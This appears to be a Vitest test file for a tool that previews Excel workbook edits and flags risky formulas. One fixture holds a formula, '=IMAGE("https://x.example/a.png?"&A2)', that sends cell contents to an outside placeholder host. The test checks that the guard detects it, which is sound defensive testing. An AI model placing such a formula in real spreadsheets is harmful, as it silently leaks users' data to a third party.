/** previewOps: sentences, samples, overwrite counts and formula findings. Excel is the fake (it cannot run here). */
import { describe, expect, it } from 'vitest';
import { previewOps } from '../../src/excel/ops';
import { always, opsOf, salesWorkbook } from './ops-fixture';

describe('previewOps (fake Excel)', () => {
  it('describes a write with its size, place, overwritten cells and a before/after sample, and changes nothing', async () => {
    const fake = await salesWorkbook();
    const before = fake.dump();
    const result = await previewOps(fake.run, opsOf({ op: 'writeValues', sheet: 'Sales', address: 'B2:C4', values: [['Mar', 1], ['Apr', 2], ['May', 3]] }), { capability: always });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const [p] = result.previews;
    expect(p?.sentence).toBe('Write 3×2 values into Sales!B2:C4, replacing 6 non-empty cells.');
    expect(p?.overwrites).toBe(6);
    expect(p?.before).toEqual([['Jan', 100], ['Jan', 80], ['Feb', 120]]);
    expect(p?.after).toEqual([['Mar', 1], ['Apr', 2], ['May', 3]]);
    expect(fake.dump()).toEqual(before);
  });

  it('keeps samples to the first 5×5 cells', async () => {
    const fake = await salesWorkbook();
    const values = Array.from({ length: 8 }, (_, r) => Array.from({ length: 7 }, (_, c) => r * 10 + c));
    const result = await previewOps(fake.run, opsOf({ op: 'writeValues', sheet: 'Sales', address: 'E1:K8', values }), { capability: always });
    if (!result.ok) throw new Error('expected a preview');
    expect(result.previews[0]?.after).toHaveLength(5);
    expect(result.previews[0]?.after?.[0]).toHaveLength(5);
    expect(result.previews[0]?.before?.[0]).toHaveLength(5);
    expect(result.previews[0]?.sentence).toBe('Write 8×7 values into Sales!E1:K8.');
  });

  it('shows filled formulas and names formula-guard findings with the key that approves them', async () => {
    const fake = await salesWorkbook();
    const result = await previewOps(fake.run, opsOf(
      { op: 'formula', sheet: 'Sales', address: 'D2:D5', formula: '=C2*1.2' },
      { op: 'writeValues', sheet: 'Sales', address: 'E2', values: [['=IMAGE("https://x.example/a.png?"&A2)']] },
    ), { capability: always });
    if (!result.ok) throw new Error('expected a preview');
    expect(result.previews[0]?.after).toEqual([['=C2*1.2'], ['=C3*1.2'], ['=C4*1.2'], ['=C5*1.2']]);
    expect(result.previews[0]?.findings).toEqual([]);
    expect(result.previews[1]?.findings).toEqual([expect.objectContaining({ what: 'IMAGE', kind: 'network', location: 'Sales!E2', key: 'op 2: IMAGE' })]);
    expect(result.findings).toHaveLength(1);
  });

  it('writes a sentence for each kind of op, including ones on a sheet added earlier in the list', async () => {
    const fake = await salesWorkbook();
    const result = await previewOps(fake.run, opsOf(
      { op: 'addSheet', name: 'Report' },
      { op: 'writeValues', sheet: 'Report', address: 'A1', values: [['Total']] },
      { op: 'deleteSheet', sheet: 'Data' },
      { op: 'sort', sheet: 'Sales', address: 'A1:C5', hasHeaders: true, keys: [{ column: 'Amount', ascending: false }] },
      { op: 'freezePanes', sheet: 'Sales', rows: 1, columns: 0 },
      { op: 'chart', type: 'pie', source: { sheet: 'Sales', address: 'A1:C5' }, title: 'Share', placement: { sheet: 'Sales', address: 'F2' } },
    ), { capability: always });
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    expect(result.previews.map((p) => p.sentence)).toEqual([
      'Add a sheet named "Report".',
      'Write 1×1 values into Report!A1.',
      'Delete sheet "Data" and everything on it (12 non-empty cells).',
      'Sort Sales!A1:C5 by "Amount" (descending).',
      'Freeze the top 1 row and the first 0 columns of "Sales".',
      'Add a pie chart of Sales!A1:C5 titled "Share" on "Sales" at F2.',
    ]);
  });

  it('returns the validation problems instead of a preview for an invalid list', async () => {
    const fake = await salesWorkbook();
    const result = await previewOps(fake.run, opsOf({ op: 'fill', sheet: 'Nowhere', address: 'A1', color: '#FFFFFF' }), { capability: always });
    expect(result).toMatchObject({ ok: false, problems: [{ opIndex: 0, op: 'fill' }] });
  });
});
